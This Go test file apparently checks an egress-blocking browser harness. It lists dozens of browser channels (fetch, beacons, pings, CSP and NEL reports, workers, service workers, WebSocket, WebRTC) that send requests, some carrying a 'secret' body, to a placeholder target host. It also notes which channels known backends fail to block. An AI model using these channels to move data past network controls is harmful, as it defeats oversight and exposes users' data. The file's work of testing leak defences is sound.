package leaktest

// Requests of page scripts.
var scripts = []Route{
	{Name: "fetch", Kind: Load, script: `await fetch('{T}/x.json').catch(() => 0);`},
	{Name: "fetch-post", Kind: Load, script: `await fetch('{T}/x', {method: 'POST', mode: 'no-cors', body: 'secret', credentials: 'include'}).catch(() => 0);`},
	{Name: "fetch-preflight", Kind: Load, script: `await fetch('{T}/x.json', {method: 'PUT', headers: {'X-Secret': 'x'}}).catch(() => 0);`},
	{Name: "fetch-redirect", Kind: Load, script: `await fetch('{V}/hop').catch(() => 0);`, files: map[string]file{"hop": redirect(308, "{T}/x.json")}},
	{Name: "fetch-keepalive-unload", Kind: Load, script: `
		addEventListener('pagehide', () => fetch('{T}/x', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret'}));
		await tried();
		location.href = '{V}/next';`},
	{Name: "fetch-later", Kind: Load, script: `self.fetchLater?.('{T}/x', {activateAfter: 0});`},
	{Name: "xhr", Kind: Load, script: `await new Promise((r) => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', '{T}/x.json'); x.send(); });`},
	{Name: "xhr-sync", Kind: Load, script: `try { const x = new XMLHttpRequest(); x.open('GET', '{T}/x.json', false); x.send(); } catch {}`},
	{Name: "beacon", Kind: Load, script: `navigator.sendBeacon('{T}/x', 'secret');`},
	{Name: "beacon-unload", Kind: Load, script: `
		addEventListener('pagehide', () => navigator.sendBeacon('{T}/x', 'secret'));
		await tried();
		location.href = '{V}/next';`},
	{Name: "ping", Kind: Load, body: `<a id=a href="#there" ping="{T}/x">a</a>`, script: `document.querySelector('#a').click();`, gesture: true},
	{Name: "cache-add", Kind: Load, script: `await caches.open('{ID}').then((c) => c.add('{T}/x.json')).catch(() => 0);`},
	{Name: "image-decode", Kind: Load, script: `const i = new Image(); i.src = '{T}/x.gif'; await i.decode().catch(() => 0);`},
	{Name: "wasm", Kind: Load, script: `await WebAssembly.compileStreaming(fetch('{T}/x.wasm')).catch(() => 0);`},
	{Name: "form-iframe", Kind: Load, body: `<iframe name=f></iframe><form method=post target=f action="{T}/x"><input name=a value=secret></form>`, script: `document.forms[0].submit();`},
	{Name: "frame-location", Kind: Load, body: `<iframe name=f></iframe>`, script: `frames.f.location = '{T}/x';`},
	{Name: "frame-meta-refresh", Kind: Load, body: `<iframe srcdoc="<meta http-equiv=refresh content='0;url={T}/x'>"></iframe>`},
	{Name: "frame-download", Kind: Load, body: `<iframe src="{V}/hop"></iframe>`, files: map[string]file{"hop": redirect(302, "{T}/x.bin")}},
	{Name: "csp-report-uri", Kind: Load, headers: map[string]string{"Content-Security-Policy": "img-src 'none'; report-uri {T}/x"}, body: `<img src="{V}/never.gif">`},
	{Name: "csp-report-to", knownLeaks: userReports, Kind: Load, headers: map[string]string{"Content-Security-Policy": "img-src 'none'; report-to far", "Reporting-Endpoints": `far="{T}/x"`}, body: `<img src="{V}/never.gif">`},
	{Name: "report-coop", knownLeaks: userReports, Kind: Load, headers: map[string]string{"Cross-Origin-Embedder-Policy": `require-corp; report-to="far"`, "Reporting-Endpoints": `far="{T}/x"`}, body: `<img src="{Y}/hop.gif">`},
	{Name: "nel", knownLeaks: userReports, queued: true, Kind: Load, headers: map[string]string{
		"Report-To": `{"group": "far", "max_age": 600, "endpoints": [{"url": "{T}/x"}]}`, "NEL": `{"report_to": "far", "max_age": 600, "success_fraction": 1.0}`},
		script: `await fetch('{V}/inner'); await fetch('{V}/next');`},
	{Name: "speculation-prefetch", blockedWhenAllowed: both, Kind: Load, script: speculate("prefetch", "{T}/x")},
	{Name: "speculation-prefetch-redirect", blockedWhenAllowed: both, Kind: Load, script: speculate("prefetch", "{V}/hop"), files: map[string]file{"hop": redirect(302, "{T}/x")}},
	{Name: "speculation-prerender", blockedWhenAllowed: both, Kind: Document, sameSite: true, script: speculate("prerender", "{T}/x")},
	{Name: "speculation-header", Kind: Load, headers: map[string]string{"Speculation-Rules": `"{T}/x.rules"`}},
	{Name: "paint-worklet", Kind: Load, script: `await CSS.paintWorklet.addModule('{T}/x.js').catch(() => 0);`},
	{Name: "audio-worklet", Kind: Load, script: `await new OfflineAudioContext(1, 9, 8000).audioWorklet.addModule('{T}/x.js').catch(() => 0);`},
	{Name: "payment-manifest", knownLeaks: userPayments, Kind: Load, script: `await new PaymentRequest([{supportedMethods: '{T}/x'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0);`},
	{Name: "fedcm", knownLeaks: userFedCM, Kind: Load, script: `await navigator.credentials.get({identity: {providers: [{configURL: '{T}/x.json', clientId: 'x'}]}}).catch(() => 0);`},
	{Name: "background-fetch", queued: true, Kind: Load, worker: "0;", script: `
		const reg = await navigator.serviceWorker.register('{V}/sw.js', {scope: '{V}/'});
		await navigator.serviceWorker.ready;
		await reg.backgroundFetch?.fetch('x', ['{T}/x.json']).catch(() => 0);`},
}

// speculate returns a script that adds a speculation rule.
func speculate(what, url string) string {
	return `
		const s = document.createElement('script');
		s.type = 'speculationrules';
		s.textContent = JSON.stringify({` + what + `: [{urls: ['` + url + `'], eagerness: 'immediate'}]});
		document.head.append(s);`
}

// Requests of workers.
var workers = []Route{
	{Name: "worker-fetch", Kind: Load, worker: `fetch('{T}/x', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage(1))`, script: `await nextMessage(new Worker('{V}/w.js'));` + nextMessage},
	{Name: "worker-import-scripts", Kind: Load, worker: `try { importScripts('{T}/x.js') } catch {} postMessage(1)`, script: `await nextMessage(new Worker('{V}/w.js'));` + nextMessage},
	{Name: "worker-module-import", Kind: Load, worker: `import('{T}/x.js').catch(() => 0).then(() => postMessage(1))`, script: `await nextMessage(new Worker('{V}/w.js', {type: 'module'}));` + nextMessage},
	{Name: "worker-blob-fetch", Kind: Load, script: "await nextMessage(new Worker(URL.createObjectURL(new Blob([`fetch('{T}/x', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage(1))`]))));" + nextMessage},
	{Name: "worker-data-fetch", Kind: Load, script: "await nextMessage(new Worker('data:text/javascript,' + encodeURIComponent(`fetch('{T}/x', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage(1))`)));" + nextMessage},
	{Name: "worker-websocket", Kind: Load, worker: `const w = new WebSocket('wss://{A}/x'); w.onopen = w.onerror = () => postMessage(1)`, script: `await nextMessage(new Worker('{V}/w.js'));` + nextMessage},
	{Name: "worker-nested", Kind: Load, worker: "const w = new Worker(URL.createObjectURL(new Blob([`fetch('{T}/x', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage(1))`]))); w.onmessage = () => postMessage(1)", script: `await nextMessage(new Worker('{V}/w.js'));` + nextMessage},
	{Name: "shared-worker-fetch", Kind: Load, worker: `onconnect = (e) => fetch('{T}/x', {mode: 'no-cors'}).catch(() => 0).then(() => e.ports[0].postMessage(1))`, script: `await nextMessage(new SharedWorker('{V}/w.js').port);` + nextMessage},
	{Name: "shared-worker-import-scripts", Kind: Load, worker: `onconnect = (e) => e.ports[0].postMessage(1); importScripts('{T}/x.js')`, script: `const w = new SharedWorker('{V}/w.js'); await nextMessage(w.port, w);` + nextMessage},
	{Name: "shared-worker-websocket", Kind: Load, knownLeaks: userSocket, worker: `onconnect = (e) => { const w = new WebSocket('wss://{A}/x'); w.onopen = w.onerror = () => e.ports[0].postMessage(1) }`, script: `await nextMessage(new SharedWorker('{V}/w.js').port);` + nextMessage},
	{Name: "shared-worker-data-fetch", blockedWhenAllowed: users, Kind: Load, script: "await nextMessage(new SharedWorker('data:text/javascript,' + encodeURIComponent(`onconnect = (e) => fetch('{T}/x', {mode: 'no-cors'}).catch(() => 0).then(() => e.ports[0].postMessage(1))`)).port);" + nextMessage},
	{Name: "shared-worker-data-websocket", Kind: Load, knownLeaks: userSocket, script: "await nextMessage(new SharedWorker('data:text/javascript,' + encodeURIComponent(`onconnect = (e) => { const w = new WebSocket('wss://{A}/x'); w.onopen = w.onerror = () => e.ports[0].postMessage(1) }`)).port);" + nextMessage},
	{Name: "service-worker-fetch", Kind: Load, worker: `oninstall = (e) => e.waitUntil(fetch('{T}/x', {mode: 'no-cors'}).catch(() => 0))`, script: serve},
	{Name: "service-worker-import-scripts", Kind: Load, worker: `importScripts('{T}/x.js')`, script: serve},
	{Name: "service-worker-websocket", Kind: Load, knownLeaks: userSocket, worker: `oninstall = (e) => e.waitUntil(new Promise((r) => { const w = new WebSocket('wss://{A}/x'); w.onopen = w.onerror = r }))`, script: serve},
	{Name: "service-worker-redirect", Kind: Document, worker: `oninstall = () => skipWaiting(); onactivate = (e) => e.waitUntil(clients.claim()); onfetch = (e) => { if (e.request.url.endsWith('/next')) e.respondWith(Response.redirect('{T}/x')) }`,
		script: serve + "; await tried(); location.href = '{V}/next';"},
}

// nextMessage defines a JavaScript function that waits for a message or an error of a worker.
const nextMessage = `
		function nextMessage(w, other) {
			return new Promise((r) => { w.onmessage = r; w.onerror = r; if (other) other.onerror = r; });
		}`

// serve starts a service worker and waits until it is active or has failed.
const serve = `
		const reg = await navigator.serviceWorker.register('{V}/sw.js', {scope: '{V}/'}).catch(() => 0);
		const w = reg && (reg.installing ?? reg.waiting ?? reg.active);
		if (w) await new Promise((r) => { w.onstatechange = () => { if (w.state === 'activated' || w.state === 'redundant') r(); }; w.onstatechange(); })`

// Other kinds of connections.
var sockets = []Route{
	{Name: "websocket", Kind: Load, script: `await new Promise((r) => { const w = new WebSocket('wss://{A}/x'); w.onopen = w.onerror = r; });`},
	{Name: "event-source", Kind: Load, script: `await new Promise((r) => { const e = new EventSource('{T}/x.stream'); e.onopen = e.onerror = () => { e.close(); r(); }; });`},
	{Name: "webtransport", Kind: Load, script: `try { await new WebTransport('https://{A}/x').ready; } catch {}`, blockedWhenAllowed: managed},
	{Name: "webrtc-stun", Kind: Load, script: webrtc(`{urls: 'stun:{I}'}`), blockedWhenAllowed: both, knownLeaks: packetRTC},
	{Name: "webrtc-turn-udp", Kind: Load, script: webrtc(`{urls: 'turn:{I}?transport=udp', username: 'u', credential: 'c'}`), blockedWhenAllowed: both, knownLeaks: packetRTC},
	{Name: "webrtc-turn-tcp", Kind: Load, script: webrtc(`{urls: 'turn:{A}?transport=tcp', username: 'u', credential: 'c'}`), blockedWhenAllowed: both, knownLeaks: userRTC},
	{Name: "webrtc-turn-tls", Kind: Load, script: webrtc(`{urls: 'turns:{A}?transport=tcp', username: 'u', credential: 'c'}`), blockedWhenAllowed: both, knownLeaks: userRTC},
}

// Backends, for routes that they also block to allowed hosts.
var (
	managed = []string{"chromium", "attached"}
	users   = []string{"extension"}
	both    = []string{"chromium", "attached", "extension"}
)

const userWebRTC = "an extension cannot block WebRTC for a single tab"

var userRTC = map[string]string{"extension": userWebRTC}

var packetRTC = map[string]string{
	"extension": userWebRTC,
	"attached":  "in an attached browser, WebRTC packets bypass the egress proxy, unless the browser was started with --webrtc-ip-handling-policy=disable_non_proxied_udp",
}

var attachedTabs = map[string]string{"attached": "the first document of a background tab that a page opened may be requested before we attach to the tab"}

var userSocket = map[string]string{"extension": "the browser does not report WebSockets of shared and service workers to extensions"}

var userReports = map[string]string{"extension": "the browser does not report requests of the Reporting API to extensions"}

var userPayments = map[string]string{"extension": "the browser does not report requests for payment method manifests to extensions"}

var userFedCM = map[string]string{"extension": "extensions do not see the browser's FedCM requests to identity providers"}

// webrtc returns a script that gathers ICE candidates with a server.
func webrtc(server string) string {
	return `
		const c = new RTCPeerConnection({iceServers: [` + server + `]});
		c.createDataChannel('x');
		await c.setLocalDescription(await c.createOffer());
		await new Promise((r) => { c.onicegatheringstatechange = () => { if (c.iceGatheringState === 'complete') r(); }; c.onicegatheringstatechange(); });
		c.close();`
}
